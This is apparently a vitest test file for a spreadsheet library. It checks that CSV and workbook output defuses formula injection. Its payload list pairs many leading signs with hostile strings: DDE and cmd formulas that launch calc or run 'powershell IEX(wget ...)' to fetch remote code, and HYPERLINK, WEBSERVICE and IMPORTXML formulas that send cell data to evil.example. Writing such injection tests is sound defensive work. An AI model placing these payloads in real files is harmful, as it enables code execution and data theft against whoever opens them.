import { unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { startsFormula } from '../formula-guard.ts'
import { markErrors, readTable, writeCsv, writeTable } from './index.ts'

const signs = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '　=',
  '\u00A0+',
  '\u200B-',
  '\uFEFF@',
  "'=",
  "''+",
]
const payloads = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
  'WEBSERVICE("http://evil.example/"&B2)',
  'IMPORTXML(CONCAT("http://evil.example/?v=",A2:E9),"//a")',
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "2+5+cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  '"a";"b"',
  '1,2;3\t4',
  '_xlfn.DISPIMG("ID_1",1)',
]
const corpus = signs.flatMap((sign) => payloads.map((payload) => `${sign}${payload}`))

const columns = [
  { head: '=甲', key: 'a', kind: 'text' as const },
  { head: '乙', key: 'b', kind: 'number' as const },
  { head: '丙', key: 'c', kind: 'date' as const, choices: ['=1+1', '+2', '是'] },
]
const headers = columns.map(({ head, key }) => ({ head, key }))
const rows = corpus.map((text) => ({ a: text, b: text, c: text }))
const trimmed = (text: string): string =>
  text.replace(/\r\n?/g, '\n').replace(/^[\s\u200B\uFEFF]+|[\s\u200B\uFEFF]+$/g, '')

/** Formulas in the sheets of a workbook; the rules of its cells (data validation) are not cells. */
function formulasIn(bytes: Uint8Array): number {
  const sheets = Object.entries(unzipSync(bytes)).filter(([name]) => name.startsWith('xl/worksheets/sheet'))
  expect(sheets.length).toBeGreaterThan(0)
  return sheets.flatMap(([, xml]) => new TextDecoder().decode(xml).match(/<(\w+:)?f[\s/>]/g) ?? []).length
}

describe(`${corpus.length} texts that try to be formulas`, () => {
  it('are 200 or more, and all would be taken for one or are guarded already', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(200)
    expect(corpus.every((text) => startsFormula(text) || text.startsWith("'"))).toBe(true)
  })

  it('stay texts in a workbook and are read back as they were', async () => {
    const bytes = await writeTable({ sheetName: '=表', title: '=标题', columns, rows })
    expect(formulasIn(bytes)).toBe(0)
    const table = await readTable(bytes, { headers })
    expect(table.rows.map(({ cells }) => cells['a'])).toEqual(corpus.map(trimmed))
    expect(table.rows.map(({ cells }) => cells['b'])).toEqual(corpus.map(trimmed))
    expect(table.rows.map(({ cells }) => cells['c'])).toEqual(corpus.map(trimmed))
  })

  it('are guarded in a CSV, cell by cell, and read back as they were', async () => {
    const bytes = writeCsv(columns, rows)
    const table = await readTable(bytes, { headers })
    expect(table.rows.map(({ cells }) => cells['a'])).toEqual(corpus.map(trimmed))
    expect(table.rows.map(({ cells }) => cells['b'])).toEqual(corpus.map(trimmed))
    const raw = new TextDecoder().decode(bytes)
    for (const record of raw.split('\r\n')) expect(startsFormula(record.replace(/^"/, '')), record).toBe(false)
    expect(raw).not.toMatch(/(^|,)"?[\s\u200B\uFEFF]*[=+@＝＋－＠]/)
  })

  it('are harmless as reasons in a marked file', async () => {
    const plain = [{ a: '1', b: 2, c: null }, ...corpus.map(() => ({ a: '甲', b: 1, c: null }))]
    const errors = corpus.map((text, index) => ({ row: index + 3, column: 'a', text }))
    const book = await writeTable({ sheetName: '表', columns, rows: plain })
    expect(formulasIn(await markErrors(book, errors, await readTable(book, { headers })))).toBe(0)
    const csv = writeCsv(columns, plain)
    const marked = await markErrors(csv, errors, await readTable(csv, { headers }))
    const again = await readTable(marked, { headers: [...headers, { key: 'why', head: '导入结果' }] })
    expect(again.rows.slice(1).map(({ cells }) => cells['why'])).toEqual(corpus.map(trimmed))
    expect(new TextDecoder().decode(marked)).not.toMatch(/,"?[\s\u200B\uFEFF]*[=+@＝＋－＠]/)
  })
})

it('leaves numbers of a column of numbers bare, and guards a minus sign anywhere else', async () => {
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(
    writeCsv(columns, [
      { a: '-5', b: -5, c: '2025-03-01' },
      { a: '5', b: '-5.50', c: null },
    ]),
  )
  expect(text).toBe("\uFEFF'=甲,乙,丙\r\n'-5,-5,2025-03-01\r\n5,-5.50,\r\n")
})
